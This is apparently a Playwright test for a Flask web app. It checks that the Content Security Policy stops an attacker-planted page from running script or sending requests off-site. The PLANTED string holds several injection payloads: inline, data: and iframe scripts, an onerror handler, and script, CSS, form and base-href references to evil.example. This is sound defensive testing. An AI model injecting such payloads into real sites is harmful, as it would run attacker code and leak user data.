"""Should a script ever slip into a page, the browser itself refuses to run it."""

import threading
from collections.abc import Iterator

import pytest
from flask import Flask
from playwright.sync_api import Browser
from werkzeug.serving import make_server

from tests.journeys.conftest import browser
from waterwatch.web.guards import public

__all__ = ["browser"]

PLANTED = """<!doctype html><title>planted</title><body>
<script>window.planted = 'inline'</script>
<script src="https://evil.example/x.js"></script>
<script src="data:text/javascript,window.planted='data'"></script>
<img src="/static/none.png" onerror="window.planted = 'handler'">
<style>body { background: url(https://evil.example/leak) }</style>
<iframe srcdoc="<script>parent.planted = 'frame'</script>"></iframe>
<form action="https://evil.example/" method="post"><button>send</button></form>
<base href="https://evil.example/">
"""


@pytest.fixture
def origin(app: Flask) -> Iterator[str]:
    """The application with a page an attacker has written, on a port of its own."""
    app.add_url_rule("/planted", "planted", public(lambda: PLANTED))
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


def test_a_planted_script_does_not_run_and_nothing_leaves_the_site(origin: str, browser: Browser) -> None:
    context = browser.new_context()
    page = context.new_page()
    asked: list[str] = []
    refused: list[str] = []
    page.on("response", lambda response: asked.append(response.url))
    page.on("requestfailed", lambda request: asked.append(request.url) if request.failure != "csp" else None)
    page.on("console", lambda line: refused.append(line.text) if "Content Security Policy" in line.text else None)
    page.goto(f"{origin}/planted")
    page.locator("button").dispatch_event("click")
    assert page.evaluate("window.planted") is None
    assert [url for url in asked if not url.startswith((origin, "data:", "about:"))] == []
    assert len(refused) >= 5
    assert page.url == f"{origin}/planted"
    context.close()
